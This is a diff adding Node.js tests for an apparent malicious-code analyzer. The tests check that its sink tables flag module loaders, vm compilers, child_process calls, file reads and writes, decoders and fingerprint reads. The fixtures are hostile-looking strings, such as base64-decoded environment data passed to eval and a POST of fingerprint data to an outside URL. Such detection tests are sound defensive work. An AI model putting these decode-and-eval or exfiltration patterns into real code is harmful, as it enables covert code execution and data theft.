@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { jsSinks } from '../../knowledge/index.ts';
 import { analyzeText } from './analyze-file.ts';
 import type { CodeFacts, SinkFact } from './types.ts';
 
@@ -149,5 +150,55 @@ describe('obfuscator string arrays', () => {
     const f = facts(src);
     assert.ok(f.requests.some(r => r.callee === 'axios.get' && r.url === 'https://cdn.example.invalid/p.js'));
     assert.ok(f.sinks.some(s => s.kind === 'function' && s.taint?.kinds.includes('network')));
+  });
+});
+
+// Every entry of data/knowledge/js-sinks.json changes the facts of code that uses it: an entry
+// nothing reads, or one the facts do not recognise, fails here.
+describe('the sink and source tables', () => {
+  const t = jsSinks();
+  const requireOf = (q: string): string => {
+    const m = /^(fs-extra|fs|os|zlib)\.(.+)$/.exec(q);
+    return m ? `const ${m[1] === 'fs-extra' ? 'fx' : m[1]} = require('${m[1]}');\n` : '';
+  };
+  const call = (q: string): string => q.replace(/^fs-extra\./, 'fx.');
+
+  it('knows every loader, compiler table and vm compiler as a sink', () => {
+    for (const q of t.loaders)
+      assert.ok(
+        facts(`${q}(process.argv[2]);`).sinks.some(s => s.kind === 'module-load'),
+        q,
+      );
+    for (const q of t.extensionTables) assert.ok(facts(`${q}['.txt'] = function (m, f) { m._compile(read(f), f); };`).sinks.length > 0, q);
+    for (const m of t.vmCompilers)
+      assert.ok(
+        facts(`const vm = require('vm');\nvm.${m}(code);`).sinks.some(s => s.kind === 'vm'),
+        m,
+      );
+  });
+
+  it('runs every process function, in a shell or not', () => {
+    for (const f of t.processShell) assert.equal(sink(`require('child_process').${f}(cmd);`).kind, 'shell', f);
+    for (const f of t.processSpawn) assert.equal(sink(`require('child_process').${f}(prog, [a]);`).kind, 'spawn', f);
+  });
+
+  it('records every file read and write', () => {
+    for (const q of t.fileWrites) assert.equal(facts(`${requireOf(q)}${call(q)}('/tmp/x', data);`).writes[0]?.path, '/tmp/x', q);
+    for (const q of t.fileReads) assert.equal(facts(`${requireOf(q)}${call(q)}('/tmp/x', data);`).reads[0]?.path, '/tmp/x', q);
+  });
+
+  it('takes every decoder and fingerprint read as what it is', () => {
+    for (const q of t.decoders) {
+      const arg = q.startsWith('Buffer') ? "process.env.P, 'base64'" : 'process.env.P';
+      const s = sink(`${requireOf(q)}const s = ${q}(${arg});\neval(s);`, 'eval');
+      assert.ok(s.taint?.steps.some(st => st.label.endsWith(`with ${q}`)) && s.taint.kinds.includes('decoded'), q);
+    }
+    for (const q of t.fingerprint) {
+      const f = facts(`${requireOf(q)}fetch('https://example.com/c', { method: 'POST', body: ${q}() });`);
+      assert.ok(
+        f.requests.some(r => r.payloadTaint?.kinds.includes('fingerprint')),
+        q,
+      );
+    }
   });
 });
